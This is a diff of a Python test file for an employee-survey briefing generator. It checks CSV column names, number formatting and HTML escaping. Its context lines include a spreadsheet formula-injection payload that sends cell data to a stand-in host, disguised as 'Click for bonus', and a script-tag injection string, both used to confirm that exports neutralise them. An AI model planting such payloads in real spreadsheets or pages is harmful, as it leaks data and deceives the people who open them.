@@ -41,8 +41,8 @@ def test_small_teams_show_no_number_in_the_html_or_the_csv(engine):
     text = re.sub(r"<svg.*?</svg>", "", briefing.html, flags=re.S)  # chart coordinates are not figures
     assert not re.search(r"\b9[347](\.0+)?\b", text)
     with zipfile.ZipFile(io.BytesIO(briefing_csv_zip(briefing.tables))) as archive:
-        heat = pd.read_csv(archive.open("heatmap_team.csv")).set_index("team")
-        assert heat.loc[["One", "Four"]].drop(columns=["note"]).isna().all().all()
+        heat = pd.read_csv(archive.open("heatmap_team.csv")).set_index("Team")
+        assert heat.loc[["One", "Four"]].drop(columns=["Note"]).isna().all().all()
         assert sorted(archive.namelist()) == ["heatmap_team.csv", "kpis.csv", "trend.csv"]
 
 
@@ -64,7 +64,12 @@ def test_the_html_makes_no_request_and_escapes_what_people_typed(engine, analyse
     assert "Tools and systems: raised in" in page and "Emergent topics" in page
     with zipfile.ZipFile(io.BytesIO(briefing_csv_zip(briefing.tables))) as archive:
         actions = archive.read("actions.csv").decode()
+        headers = {name: pd.read_csv(archive.open(name), nrows=0).columns.tolist() for name in archive.namelist()}
     assert ",'<script>" not in actions and "<script>alert(1)</script> =HYPERLINK" in actions
+    # Column names an executive reads in a spreadsheet: no internal names such as enps_diff or opens_on.
+    assert {"gaps.csv", "topics.csv", "trend.csv"} <= set(headers)
+    assert "eNPS difference (points)" in headers["gaps.csv"] and "Management support" in headers["trend.csv"]
+    assert not [(n, c) for n, cs in headers.items() for c in cs if "_" in c or c[:1].islower() and c[:4] != "eNPS"]
 
 
 FORMULA = '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"Click for bonus")'
@@ -124,6 +129,31 @@ def test_the_demo_briefing_is_small_reads_headline_first_and_has_no_raw_values(a
     with zipfile.ZipFile(io.BytesIO(briefing_csv_zip(briefing.tables))) as archive:
         for name in archive.namelist():
             assert not re.search(r"\d\.\d{4,}", archive.read(name).decode()), name
+
+
+def test_scores_by_wave_read_like_the_app_and_a_wave_without_figures_says_why(analysed_demo):
+    demo, job_id = analysed_demo
+    with session_scope(demo) as session:
+        from research.findings.representative import representative_wave
+
+        create_action(session=session, theme="tools", title="Fix the search screen", owner="Head of IT",
+                      due_on=None, status="planned", published=False, created_by="rita")
+        session.flush()
+        wave = representative_wave(session=session, thresholds=FIVE)
+        page = build_briefing(session=session, wave_id=wave, job_id=job_id, thresholds=FIVE).html
+    table = page[page.index("<h3>Scores by wave</h3>"):]
+    header = re.findall(r"<th>([^<]*)</th>", table)
+    rows = [dict(zip(header, re.findall(r"<td[^>]*>([^<]*)</td>", row)))
+            for row in re.findall(r"<tr>(.*?)</tr>", table)[1:]]
+    shown = [r for r in rows if r["eNPS"]]
+    assert shown and all(re.fullmatch(r"[-+]?\d+", r["eNPS"]) for r in shown)  # whole points, not -52.31
+    assert all(re.fullmatch(r"\d+ %", r["Recovery share"]) for r in shown)
+    assert all(re.fullmatch(r"\d\.\d\d", r["Morale"]) for r in shown)
+    assert all(re.fullmatch(r"[\d,]+", r["Responses"]) for r in shown)  # 216, not 216.00
+    assert [r["Note"] for r in rows if not r["eNPS"]] == ["No figures to show yet: the wave is open or has fewer "
+                                                        "than 5 answers."]  # the open wave
+    actions = page[page.index("<h3>Actions: you said, we did</h3>"):page.index("<h3>Scores by wave</h3>")]
+    assert "<td>Planned</td>" in actions and "<td>no</td>" in actions and "False" not in actions
 
 
 def test_chart_lines_differ_in_colour_and_in_dash_and_marker(analysed_demo):
